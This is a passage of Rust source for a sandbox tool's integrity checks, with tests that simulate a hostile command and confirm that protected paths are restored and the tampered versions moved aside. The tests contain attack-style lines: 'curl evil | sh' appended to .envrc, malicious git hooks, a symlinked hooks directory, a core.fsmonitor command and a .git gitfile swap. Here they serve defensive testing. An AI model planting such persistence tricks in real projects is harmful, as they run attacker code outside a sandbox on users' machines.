//! The checks of one run: recorded before its command, verified after it
//! (see the module above for the story).

use std::path::{Path, PathBuf};

use anyhow::{Context, Result};

use super::identity::{GitConfigWatch, Identity, Repositories};
use super::overlap::{Others, Verdict};
use super::repositories::check_new_repositories;
use super::snapshot::{self, Held, Snapshot};
use super::{gitconfig, journal, sweep};
use crate::policy::{self, Policy, Protected};

/// Why the command is not run when its note cannot be written.
const NO_NOTE: &str =
    "the run's note for the checks after it cannot be written, so the command was not run";

/// What one run checks after its command, recorded before it starts.
pub struct Checks<'a> {
    watch: Vec<(PathBuf, Option<Identity>)>,
    git_configs: &'a [GitConfigWatch],
    /// The repositories under the project before the run, when they are in
    /// a writable root (a new one there was made by the command), and those
    /// of the other writable roots.
    repositories: Vec<&'a Repositories>,
    /// sbx's cache directory (the walk's cache).
    cache: Option<PathBuf>,
    /// The run's private git config copies, applied after it, and the
    /// configs they are copies of (in the order of the plan).
    copies: Option<(PathBuf, Vec<&'a GitConfigWatch>)>,
    /// Whether [`Checks::verify`] removes the copies once applied (see
    /// [`Checks::leave_copies`]).
    remove_copies: bool,
    /// An after-the-fact run's copies of the "runs later" paths that exist,
    /// put back after it where the command changed them (see
    /// [`snapshot`]).
    snapshot: Option<Held>,
    /// This run's note, removed when the checks are done (dropped).
    _note: Option<journal::Pending>,
}

impl<'a> Checks<'a> {
    /// Take what the checks after the run compare against, and write it
    /// down in `cache` before the command starts, for the next run to check
    /// if this sbx dies before it can. With `copies`, the private git config
    /// copies are made there (after the note, so that a killed run's copies
    /// are always found and removed).
    ///
    /// `after_the_fact`: for a sandbox that cannot keep the "runs later"
    /// paths read-only during the run (`copies` is then `None`): those that
    /// exist are copied to the cache, and put back after the run where the
    /// command changed them (see the module). An error, naming the path,
    /// when they are too many or too large to copy, or when there is no
    /// cache to copy them to.
    pub fn record(
        policy: &'a Policy,
        cache: Option<&Path>,
        copies: Option<&Path>,
        after_the_fact: bool,
    ) -> Result<Checks<'a>> {
        let repositories = repositories(policy);
        if after_the_fact {
            return Self::record_after_the_fact(policy, cache, repositories);
        }
        let watch = watch_list(policy);
        let note = match cache {
            Some(c) => {
                let contents = journal::Contents {
                    watch: &watch,
                    git_configs: &policy.git_configs,
                    repositories: &repositories,
                    snapshot: None,
                };
                Some(journal::write(c, &contents).context(NO_NOTE)?)
            }
            None => None,
        };
        let copies = copies.map(|dir| {
            (
                dir.to_path_buf(),
                crate::backend::bwrap::private_configs(policy),
            )
        });
        if let Some((dir, configs)) = &copies {
            super::copies::prepare(dir, configs).context(
                "the private git config copies cannot be made, so the command was not run",
            )?;
        }
        Ok(Checks {
            watch,
            git_configs: &policy.git_configs,
            repositories,
            cache: cache.map(Path::to_path_buf),
            copies,
            remove_copies: true,
            snapshot: None,
            _note: note,
        })
    }

    /// [`Checks::record`] after the fact: the note is written first (with
    /// the fingerprints), then the copies are made, then the note again
    /// with the copies' fingerprints, which tell a killed run's next run
    /// that the command may have started.
    ///
    /// What the other runs going in the same cache may have changed is not
    /// copied ([`super::overlap`]): their notes are read before the
    /// fingerprints are taken, and again once the copies are made (a run
    /// that began meanwhile); if by then one of them changed a path copied,
    /// the copies are dropped and made again (three times at most).
    fn record_after_the_fact(
        policy: &'a Policy,
        cache: Option<&Path>,
        repositories: Vec<&'a Repositories>,
    ) -> Result<Checks<'a>> {
        const ATTEMPTS: usize = 3;
        let cache = cache.context(
            "sbx copies the paths that run later outside the sandbox to its cache directory during the run, and there is none; the command was not run",
        )?;
        let dir = snapshot::dir(cache).context("reading /proc/self/stat")?;
        let mut others = Others::read(cache);
        let mut note: Option<journal::Pending> = None;
        for attempt in 1..=ATTEMPTS {
            let owners = owners(policy, &dir, &others)?;
            let mut snapshot = Snapshot::plan(
                dir.clone(),
                &owners.kept,
                owners.configs.clone(),
                &policy.writable,
            )?;
            let contents = journal::Contents {
                watch: &owners.watch,
                git_configs: &[],
                repositories: &repositories,
                snapshot: Some(&snapshot),
            };
            let pending = match note.take() {
                Some(pending) => {
                    pending.rewrite(&contents).context(NO_NOTE)?;
                    pending
                }
                None => journal::write(cache, &contents).context(NO_NOTE)?,
            };
            snapshot.copy()?;
            let later = Others::read(cache);
            if attempt < ATTEMPTS && !owners.still_trusted(&later) {
                // The note still says the copies are not all made: a
                // killed sbx's next run puts nothing back.
                let _ = super::aside::remove_any(&snapshot.dir);
                others = later;
                note = Some(pending);
                continue;
            }
            let contents = journal::Contents {
                watch: &owners.watch,
                git_configs: &[],
                repositories: &repositories,
                snapshot: Some(&snapshot),
            };
            pending
                .rewrite(&contents)
                .context(NO_NOTE)
                .inspect_err(|_| {
                    let _ = super::aside::remove_any(&snapshot.dir);
                })?;
            return Ok(Checks {
                watch: owners.watch,
                // Each config is put back (the snapshot's) or copied whole.
                git_configs: &[],
                repositories,
                cache: Some(cache.to_path_buf()),
                copies: None,
                remove_copies: true,
                snapshot: Some(Held::new(snapshot)),
                _note: Some(pending),
            });
        }
        unreachable!("the last attempt returns")
    }

    /// The copies, once applied, are left in place: another process
    /// removes them (the run's guardian, told the run is done, or else the
    /// next run), so that the run does not wait for the file system.
    pub fn leave_copies(&mut self) {
        self.remove_copies = false;
    }

    /// Make the checks once the command has run, then drop the note. False
    /// when something is left in place for the user to review.
    ///
    /// Any "runs later" path in the watch list (paths that did not exist, so
    /// could not be mounted read-only) that the command created is renamed to
    /// `NAME.sbx-blocked[-N]`: nothing is deleted, and each one is reported.
    pub fn verify(self, warn: &dyn Fn(&str)) -> bool {
        if let Some(cache) = &self.cache {
            journal::reclaim(cache);
        }
        let mut clean = true;
        // First: a directory the command replaced above the paths copied
        // (`.git`) is made again, and the paths put back into it; the ones
        // swept below (`.git/info/...`) are then looked at there, and the
        // new repositories with the `.git/hooks` put back.
        let mut rebuilt = Vec::new();
        if let Some(held) = self.snapshot {
            let settled = held.finish(warn);
            clean &= settled.clean;
            rebuilt = settled.rebuilt;
        }
        for (path, before) in &self.watch {
            if !sweep(path, before.as_ref(), warn) {
                // Left in place, it would run later outside the sandbox: sbx
                // fails so that the caller notices, whatever the command did.
                clean = false;
            }
        }
        if !gitconfig::check_git_configs(self.git_configs, warn) {
            clean = false;
        }
        if let Some((dir, configs)) = &self.copies {
            if !super::copies::apply(dir, configs, warn) {
                clean = false;
            }
            if self.remove_copies {
                super::copies::remove(dir);
            }
        }
        for repositories in &self.repositories {
            if !check_new_repositories(repositories, self.cache.as_deref(), &rebuilt, warn) {
                clean = false;
            }
        }
        clean
    }
}

/// The repositories the checks look at: those under the project when they
/// are in a writable root (a new one there was made by the command), and
/// those of the other writable roots.
fn repositories(policy: &Policy) -> Vec<&Repositories> {
    policy
        .repositories
        .iter()
        .filter(|r| {
            policy
                .writable
                .iter()
                .any(|w| r.scan_root.starts_with(w) || w.starts_with(&r.scan_root))
        })
        .chain(&policy.other_repositories)
        .collect()
}

/// Who looks after each protected path in an after-the-fact run, one each.
#[derive(Default)]
struct Owners {
    /// Copied and put back ([`Snapshot`]).
    kept: Vec<PathBuf>,
    /// Git configs whose content is put back and whose everyday changes
    /// are applied (`snapshot_configs`).
    configs: Vec<GitConfigWatch>,
    /// Swept as in a run that keeps them read-only ([`sweep()`]): the
    /// missing ones, one that holds sbx's own snapshot (its cache), and
    /// those another run going may have changed ([`super::overlap`]).
    watch: Vec<(PathBuf, Option<Identity>)>,
}

impl Owners {
    /// Whether what the runs going recorded (`others`, read again) still
    /// lets each path copied, and each config, be taken as it was.
    fn still_trusted(&self, others: &Others) -> bool {
        self.kept
            .iter()
            .all(|k| others.verdict(k) == Verdict::Trusted)
            && self.configs.iter().all(|c| match others.verdict(&c.path) {
                Verdict::Trusted => true,
                Verdict::ConfigWas(before) => before == c.before.as_slice(),
                Verdict::Untrusted => false,
            })
    }
}

/// Share out the protected paths (see [`Owners`]). A path inside one that
/// is copied is left to it (it goes back with it); a missing one that a
/// run keeping them read-only would create (`.git/hooks`, `.git/config`)
/// is created now, as git would, and copied like the others. One that
/// another run going (`others`) may have changed is watched instead, and a
/// config whose content alone it changed keeps the content it recorded.
fn owners(policy: &Policy, snapshot_dir: &Path, others: &Others) -> Result<Owners> {
    let mut out = Owners::default();
    let identity = |path: &Path, or: &Option<Identity>| {
        policy
            .protected
            .iter()
            .find(|p| p.path == path)
            .map_or_else(|| or.clone(), |p| p.identity.clone())
    };
    let mut configs = Vec::new();
    for c in policy.git_configs.iter().filter(|c| c.gets_a_copy()) {
        match others.verdict(&c.path) {
            Verdict::Trusted => configs.push(c.clone()),
            Verdict::ConfigWas(before) => configs.push(GitConfigWatch {
                before: before.to_vec(),
                ..c.clone()
            }),
            Verdict::Untrusted => {
                out.watch
                    .push((c.path.clone(), identity(&c.path, &c.identity)));
            }
        }
    }
    let mut protected: Vec<&Protected> = policy.protected.iter().collect();
    // Parents before what they hold.
    protected.sort_by(|a, b| a.path.cmp(&b.path));
    protected.dedup_by(|a, b| a.path == b.path);
    for p in protected {
        if out.kept.iter().any(|k| p.path.starts_with(k)) {
            continue;
        }
        if out.watch.iter().any(|(w, _)| *w == p.path) {
            continue;
        }
        if snapshot_dir.starts_with(&p.path) {
            out.watch.push((p.path.clone(), p.identity.clone()));
            continue;
        }
        if configs.iter().any(|c| c.path == p.path) {
            continue;
        }
        let created = p.create && std::fs::symlink_metadata(&p.path).is_err() && create(p)?;
        let there = std::fs::symlink_metadata(&p.path).is_ok();
        // Made just now, by this run: nothing of another's.
        if there && (created || others.verdict(&p.path) == Verdict::Trusted) {
            out.kept.push(p.path.clone());
        } else {
            out.watch.push((p.path.clone(), p.identity.clone()));
        }
    }
    configs.retain(|c| !out.kept.iter().any(|k| c.path.starts_with(k)));
    out.configs = configs;
    out.watch.sort();
    Ok(out)
}

/// Create a missing `.git/hooks` or `.git/config` empty, as a run that
/// keeps them read-only does (`exec::prepare`); whether it was made now.
fn create(p: &Protected) -> Result<bool> {
    let made = match p.kind {
        policy::Kind::Dir => std::fs::create_dir(&p.path),
        _ => std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(&p.path)
            .map(drop),
    };
    match made {
        Ok(()) => Ok(true),
        Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => Ok(false),
        Err(e) => {
            Err(e).with_context(|| format!("creating {} so that it can be kept", p.path.display()))
        }
    }
}

/// Every protected path with its identity before the run: missing ones
/// could be created by this command, and existing ones replaced by it if
/// something outside removes or renames them meanwhile (another run's
/// sweep, say: the read-only mount on them is then detached). Files
/// inside .git that exist are left out: git itself replaces them (a lock
/// file renamed over .git/config) when the user runs it meanwhile, so a
/// replaced one is the user's; the config files among them are checked
/// for new settings instead (`policy.git_configs`).
fn watch_list(policy: &Policy) -> Vec<(PathBuf, Option<Identity>)> {
    let mut watch: Vec<(PathBuf, Option<Identity>)> = policy
        .protected
        .iter()
        .filter(|p| {
            // A symlink is never mounted (kind Missing) but has an identity:
            // watched wherever it is.
            !p.create
                && (p.identity.is_none()
                    || p.kind != policy::Kind::File
                    || !p.path.components().any(|c| c.as_os_str() == ".git"))
        })
        .map(|p| (p.path.clone(), p.identity.clone()))
        .collect();
    watch.sort();
    watch
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::integrity::gitconfig::TRUSTED_GIT;
    use crate::integrity::test_support::{git_config, repositories_of};
    use crate::policy::{Kind, Platform};
    use std::cell::RefCell;

    /// A policy protecting `paths` (relative to `root`, with their kind)
    /// as they are now, and the git configs `configs` among them.
    fn policy(root: &Path, paths: &[(&str, Kind)], configs: &[&str]) -> Policy {
        let mut p = crate::policy::test_policy(Platform::Linux);
        p.project = root.to_path_buf();
        p.writable = vec![root.to_path_buf()];
        p.protected = paths
            .iter()
            .map(|(rel, kind)| {
                let path = root.join(rel);
                Protected {
                    identity: Identity::of(&path),
                    create: false,
                    kind: *kind,
                    path,
                }
            })
            .collect();
        p.git_configs = configs
            .iter()
            .map(|rel| {
                let path = root.join(rel);
                GitConfigWatch {
                    identity: Identity::of(&path),
                    before: std::fs::read(&path).unwrap_or_default(),
                    path,
                }
            })
            .collect();
        p
    }

    /// A project with `.git/hooks` (one sample), `.git/config`, `.vscode`
    /// and `.envrc`.
    fn project(root: &Path) {
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::write(root.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
        std::fs::write(root.join(".git/config"), BASE).unwrap();
        std::fs::create_dir_all(root.join(".vscode")).unwrap();
        std::fs::write(root.join(".vscode/settings.json"), "{}").unwrap();
        std::fs::write(root.join(".envrc"), "export A=1\n").unwrap();
    }

    const BASE: &str = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n";

    const PATHS: &[(&str, Kind)] = &[
        (".git/hooks", Kind::Dir),
        (".git/config", Kind::File),
        (".vscode", Kind::Dir),
        (".envrc", Kind::File),
        (".idea", Kind::Missing),
    ];

    fn verify(checks: Checks) -> (bool, Vec<String>) {
        let said = RefCell::new(Vec::new());
        let clean = checks.verify(&|t| said.borrow_mut().push(t.to_string()));
        (clean, said.take())
    }

    /// What `CACHE/pending` holds.
    fn pending(cache: &Path) -> Vec<String> {
        std::fs::read_dir(journal::dir(cache))
            .into_iter()
            .flatten()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect()
    }

    fn has_git() -> bool {
        let there = Path::new(TRUSTED_GIT).is_file();
        if !there {
            eprintln!("skipped: {TRUSTED_GIT} is not installed");
        }
        there
    }

    #[test]
    fn unchanged_paths_are_left_alone_and_the_copies_go() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let p = policy(&root, PATHS, &[".git/config"]);
        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
        let snapshot_dir = snapshot::dir(&cache).unwrap();
        // The config is put back by its own logic, not copied; the
        // missing .idea is swept.
        assert_eq!(std::fs::read_dir(&snapshot_dir).unwrap().count(), 3);
        assert_eq!(checks.watch, vec![(root.join(".idea"), None)]);
        assert_eq!(pending(&cache).len(), 2);
        assert_eq!(verify(checks), (true, vec![]));
        assert!(pending(&cache).is_empty(), "{:?}", pending(&cache));
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc")).unwrap(),
            "export A=1\n"
        );
        assert_eq!(std::fs::read_dir(&root).unwrap().count(), 3);
    }

    #[test]
    fn a_file_edited_in_place_is_put_back_and_its_version_moved_aside() {
        use std::io::Write;
        use std::os::unix::fs::MetadataExt;
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let p = policy(&root, PATHS, &[]);
        let envrc = root.join(".envrc");
        let inode = std::fs::metadata(&envrc).unwrap().ino();
        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
        let mut f = std::fs::OpenOptions::new()
            .append(true)
            .open(&envrc)
            .unwrap();
        f.write_all(b"curl evil | sh\n").unwrap();
        drop(f);
        assert_eq!(std::fs::metadata(&envrc).unwrap().ino(), inode);
        let (clean, said) = verify(checks);
        assert!(clean, "{said:?}");
        assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "export A=1\n");
        let blocked = root.join(".envrc.sbx-blocked");
        assert!(std::fs::read_to_string(&blocked).unwrap().contains("evil"));
        assert_eq!(said.len(), 1, "{said:?}");
        assert!(said[0].contains(&envrc.display().to_string()), "{said:?}");
        assert!(said[0].contains(&blocked.display().to_string()), "{said:?}");
        assert!(pending(&cache).is_empty());
    }

    #[test]
    fn a_file_added_to_a_protected_directory_puts_the_directory_back() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let p = policy(&root, PATHS, &[]);
        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
        std::fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\nevil\n").unwrap();
        std::fs::write(root.join(".vscode/tasks.json"), "{\"tasks\": []}").unwrap();
        let (clean, said) = verify(checks);
        assert!(clean, "{said:?}");
        for dir in [".git/hooks", ".vscode"] {
            let blocked = root.join(format!("{dir}.sbx-blocked"));
            assert!(blocked.is_dir(), "{dir}");
            assert!(said
                .iter()
                .any(|t| t.contains(&blocked.display().to_string())));
        }
        assert!(!root.join(".git/hooks/pre-commit").exists());
        assert!(root.join(".git/hooks/pre-commit.sample").exists());
        assert!(root.join(".git/hooks.sbx-blocked/pre-commit").exists());
        assert!(!root.join(".vscode/tasks.json").exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".vscode/settings.json")).unwrap(),
            "{}"
        );
    }

    #[test]
    fn a_link_planted_in_place_of_a_directory_is_moved_aside() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let p = policy(&root, PATHS, &[]);
        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
        let evil = tmp.path().join("evil-hooks");
        std::fs::create_dir(&evil).unwrap();
        std::fs::write(evil.join("pre-commit"), "evil").unwrap();
        std::fs::rename(root.join(".git/hooks"), tmp.path().join("gone")).unwrap();
        std::os::unix::fs::symlink(&evil, root.join(".git/hooks")).unwrap();
        let (clean, said) = verify(checks);
        assert!(clean, "{said:?}");
        let hooks = std::fs::symlink_metadata(root.join(".git/hooks")).unwrap();
        assert!(hooks.is_dir());
        assert!(root.join(".git/hooks/pre-commit.sample").exists());
        let blocked = std::fs::symlink_metadata(root.join(".git/hooks.sbx-blocked")).unwrap();
        assert!(blocked.is_symlink());
        // Nothing was written where the link pointed.
        assert_eq!(std::fs::read_dir(&evil).unwrap().count(), 1);
    }

    #[test]
    fn a_missing_hooks_directory_is_created_and_kept() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        std::fs::create_dir_all(root.join(".git")).unwrap();
        let mut p = policy(&root, &[(".git/hooks", Kind::Dir)], &[]);
        p.protected[0].create = true;
        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
        assert!(root.join(".git/hooks").is_dir());
        assert!(checks.watch.is_empty());
        std::fs::write(root.join(".git/hooks/post-checkout"), "evil").unwrap();
        let (clean, said) = verify(checks);
        assert!(clean, "{said:?}");
        assert_eq!(
            std::fs::read_dir(root.join(".git/hooks")).unwrap().count(),
            0
        );
    }

    /// sbx's cache (where the copies go) may be a protected path itself:
    /// it is swept as in the other mode, never copied into itself.
    #[test]
    fn the_cache_is_watched_not_copied() {
        let tmp = tempfile::tempdir().unwrap();
        let cache = tmp.path().join("cache");
        std::fs::create_dir_all(&cache).unwrap();
        std::fs::write(tmp.path().join(".envrc"), "x").unwrap();
        let p = policy(
            tmp.path(),
            &[("cache", Kind::Dir), (".envrc", Kind::File)],
            &[],
        );
        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
        assert_eq!(checks.watch.len(), 1);
        assert_eq!(checks.watch[0].0, cache);
        assert_eq!(verify(checks), (true, vec![]));
    }

    #[test]
    fn too_much_to_copy_refuses_the_run_and_leaves_nothing() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let blob = std::fs::File::create(root.join(".vscode/blob")).unwrap();
        blob.set_len(snapshot::MAX_BYTES).unwrap();
        let p = policy(&root, PATHS, &[]);
        let err = Checks::record(&p, Some(&cache), None, true)
            .err()
            .unwrap()
            .to_string();
        assert!(err.contains(".vscode") && err.contains("not run"), "{err}");
        assert!(pending(&cache).is_empty());
        // And there is no cache to copy to.
        let err = Checks::record(&p, None, None, true)
            .err()
            .unwrap()
            .to_string();
        assert!(err.contains("cache"), "{err}");
    }

    #[test]
    fn a_config_edited_by_git_gets_its_everyday_settings_only() {
        if !has_git() {
            return;
        }
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let config = root.join(".git/config");
        let p = policy(&root, PATHS, &[".git/config"]);
        // Everyday settings alone are applied.
        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
        git_config(&config, "user.email", "a@example.com");
        let (clean, said) = verify(checks);
        assert!(clean, "{said:?}");
        assert!(std::fs::read_to_string(&config)
            .unwrap()
            .contains("a@example.com"));
        assert!(!root.join(".git/config.sbx-blocked").exists());
        // With a setting that runs a command, nothing is applied (all or
        // nothing, as for a private copy), the refused one is named, and
        // the command's version is kept for review.
        let p = policy(&root, PATHS, &[".git/config"]);
        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
        git_config(&config, "user.email", "b@example.com");
        git_config(&config, "core.fsmonitor", "evil");
        let (clean, said) = verify(checks);
        assert!(!clean, "{said:?}");
        let now = std::fs::read_to_string(&config).unwrap();
        assert!(
            !now.contains("fsmonitor") && !now.contains("b@example.com"),
            "{now}"
        );
        assert!(now.contains("a@example.com"), "{now}");
        assert!(
            said.iter().any(|t| t.contains("core.fsmonitor=evil")),
            "{said:?}"
        );
        let kept = std::fs::read_to_string(root.join(".git/config.sbx-blocked")).unwrap();
        assert!(kept.contains("fsmonitor"));
        // Only the config's own logic acted on it: no copy of it was put back.
        assert!(!said.iter().any(|t| t.contains("was put back")), "{said:?}");
        assert!(pending(&cache).is_empty());
    }

    /// The command of the finding: `.git` copied to /tmp with a setting
    /// that runs a command, renamed away, and a file sending git to the
    /// copy put in its place.
    fn swap_for_a_gitfile(tmp: &Path, root: &Path) -> PathBuf {
        let evil = tmp.join("evilgit");
        std::fs::create_dir_all(evil.join("hooks")).unwrap();
        std::fs::write(evil.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(
            evil.join("config"),
            format!("{BASE}\tfsmonitor = touch /var/tmp/pwn; false\n"),
        )
        .unwrap();
        std::fs::rename(root.join(".git"), root.join(".git-away")).unwrap();
        std::fs::write(root.join(".git"), format!("gitdir: {}\n", evil.display())).unwrap();
        evil
    }

    /// After it, `.git` is a directory again with the hooks and config
    /// from before the run, nothing of the command's, and the gitfile aside.
    fn assert_swap_undone(root: &Path, evil: &Path, said: &[String]) {
        let git = root.join(".git");
        assert!(
            std::fs::symlink_metadata(&git).unwrap().is_dir(),
            "{said:?}"
        );
        assert_eq!(std::fs::read_to_string(git.join("config")).unwrap(), BASE);
        assert!(git.join("hooks/pre-commit.sample").is_file());
        let blocked = root.join(".git.sbx-blocked");
        assert!(std::fs::read_to_string(&blocked)
            .unwrap()
            .starts_with("gitdir:"));
        // The .git made again is not taken for the command's.
        assert!(!root.join(".git.sbx-blocked-2").exists(), "{said:?}");
        // Said, naming the paths and where the user's repository went.
        assert!(
            said.iter()
                .any(|t| t.contains(&blocked.display().to_string())
                    && t.contains(&root.join(".git-away").display().to_string())
                    && t.contains(&git.join("hooks").display().to_string())),
            "{said:?}"
        );
        // The command's copy is left as it was.
        assert!(evil.join("config").is_file() && evil.join("HEAD").is_file());
    }

    #[test]
    fn a_repository_swapped_for_a_gitfile_is_made_again() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let mut p = policy(&root, PATHS, &[".git/config"]);
        p.repositories = Some(repositories_of(&root));
        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
        let evil = swap_for_a_gitfile(tmp.path(), &root);
        let (clean, said) = verify(checks);
        assert!(!clean, "{said:?}");
        assert_swap_undone(&root, &evil, &said);
        assert!(pending(&cache).is_empty(), "{:?}", pending(&cache));
    }

    /// The same, the run killed: the next run does it.
    #[test]
    fn a_killed_runs_repository_swapped_for_a_gitfile_is_made_again() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let mut p = policy(&root, PATHS, &[".git/config"]);
        p.repositories = Some(repositories_of(&root));
        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
        let evil = swap_for_a_gitfile(tmp.path(), &root);
        std::mem::forget(checks);
        let key = journal::process_key(std::process::id()).unwrap();
        let note = journal::dir(&cache).join(format!("run-{key}.json"));
        std::fs::rename(&note, journal::dir(&cache).join("run-0-1.json")).unwrap();
        let said = RefCell::new(Vec::new());
        let clean = journal::recover(&cache, &|t| said.borrow_mut().push(t.to_string()));
        let said = said.take();
        assert!(!clean, "{said:?}");
        assert_swap_undone(&root, &evil, &said);
        assert!(pending(&cache).is_empty(), "{:?}", pending(&cache));
    }

    /// A killed run (its note left behind, nothing verified): the next run
    /// puts its paths back from the note, and its config's changes are
    /// kept aside, never applied.
    #[test]
    fn a_killed_runs_paths_are_put_back_by_the_next_run() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let p = policy(&root, PATHS, &[".git/config"]);
        let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
        std::fs::write(root.join(".git/hooks/pre-commit"), "evil").unwrap();
        std::fs::write(root.join(".envrc"), "evil").unwrap();
        std::fs::write(root.join(".idea"), "evil").unwrap();
        std::fs::write(
            root.join(".git/config"),
            format!("{BASE}[user]\n\temail = x\n"),
        )
        .unwrap();
        // Killed: nothing runs after the command, the note stays.
        std::mem::forget(checks);
        let key = journal::process_key(std::process::id()).unwrap();
        let note = journal::dir(&cache).join(format!("run-{key}.json"));
        std::fs::rename(&note, journal::dir(&cache).join("run-0-1.json")).unwrap();
        let said = RefCell::new(Vec::new());
        let clean = journal::recover(&cache, &|t| said.borrow_mut().push(t.to_string()));
        let said = said.take();
        assert!(clean, "{said:?}");
        assert!(!root.join(".git/hooks/pre-commit").exists());
        assert!(root.join(".git/hooks.sbx-blocked/pre-commit").exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc")).unwrap(),
            "export A=1\n"
        );
        assert!(!root.join(".idea").exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".git/config")).unwrap(),
            BASE
        );
        let kept = std::fs::read_to_string(root.join(".git/config.sbx-blocked")).unwrap();
        assert!(kept.contains("email = x"));
        assert!(said.iter().any(|t| t.contains("never applied")), "{said:?}");
        assert!(pending(&cache).is_empty(), "{:?}", pending(&cache));
    }

    /// A run of another sbx still going, in this test process: its note and
    /// snapshot are named after a live process of its own (a `sleep`,
    /// ended when this is dropped).
    struct Other(std::process::Child);

    impl Other {
        fn start() -> Other {
            Other(
                std::process::Command::new("sleep")
                    .arg("120")
                    .spawn()
                    .unwrap(),
            )
        }

        /// `f`, as that run.
        fn as_it<T>(&self, f: impl FnOnce() -> T) -> T {
            let key = journal::process_key(self.0.id()).unwrap();
            journal::TEST_KEY.with(|k| *k.borrow_mut() = Some(key));
            let out = f();
            journal::TEST_KEY.with(|k| *k.borrow_mut() = None);
            out
        }
    }

    impl Drop for Other {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }

    /// The finding: run A's command creates `.envrc` (missing at A's
    /// start), run B starts meanwhile, A ends and moves its `.envrc`
    /// aside, B's command writes another: B must not take A's for what was
    /// there before it, nor put it back; both end aside.
    #[test]
    fn overlapping_runs_leave_no_envrc_in_place() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let envrc = root.join(".envrc");
        std::fs::remove_file(&envrc).unwrap();
        let other = Other::start();
        let pa = policy(&root, PATHS, &[]);
        let a = other.as_it(|| Checks::record(&pa, Some(&cache), None, true).unwrap());
        assert!(a.watch.iter().any(|(w, _)| *w == envrc));
        std::fs::write(&envrc, "decoy\n").unwrap();
        let pb = policy(&root, PATHS, &[]);
        let b = Checks::record(&pb, Some(&cache), None, true).unwrap();
        // Not copied: watched, with what it is now.
        assert!(
            b.watch.contains(&(envrc.clone(), Identity::of(&envrc))),
            "{:?}",
            b.watch
        );
        // The paths A left alone are copied as ever.
        assert!(!b.watch.iter().any(|(w, _)| w.ends_with(".vscode")));
        let (clean, said) = verify(a);
        assert!(clean, "{said:?}");
        std::fs::write(&envrc, "evil\n").unwrap();
        let (clean, said) = verify(b);
        assert!(clean, "{said:?}");
        assert!(!envrc.exists(), "{said:?}");
        let aside = |n: &str| std::fs::read_to_string(root.join(n)).unwrap();
        assert_eq!(aside(".envrc.sbx-blocked"), "decoy\n");
        assert_eq!(aside(".envrc.sbx-blocked-2"), "evil\n");
        assert!(!said.iter().any(|t| t.contains("put back")), "{said:?}");
        assert!(pending(&cache).is_empty(), "{:?}", pending(&cache));
    }

    /// The same with B's command editing A's `.envrc` in place while A
    /// still runs: A's checks move it aside, and B puts nothing back.
    #[test]
    fn a_file_another_run_created_and_this_one_edits_is_not_put_back() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let envrc = root.join(".envrc");
        std::fs::remove_file(&envrc).unwrap();
        let other = Other::start();
        let pa = policy(&root, PATHS, &[]);
        let a = other.as_it(|| Checks::record(&pa, Some(&cache), None, true).unwrap());
        std::fs::write(&envrc, "decoy\n").unwrap();
        let pb = policy(&root, PATHS, &[]);
        let b = Checks::record(&pb, Some(&cache), None, true).unwrap();
        std::fs::write(&envrc, "evil\n").unwrap();
        let (clean, said) = verify(b);
        assert!(clean && said.is_empty(), "{said:?}");
        let (clean, said) = verify(a);
        assert!(clean, "{said:?}");
        assert!(!envrc.exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc.sbx-blocked")).unwrap(),
            "evil\n"
        );
    }

    /// Run A copied `.vscode`, and its command added a file to it; run B,
    /// starting meanwhile, does not copy it (it is not as A recorded it):
    /// after both, nothing of either command's is left in `.vscode`.
    #[test]
    fn a_path_inside_another_runs_changed_copy_is_not_copied() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
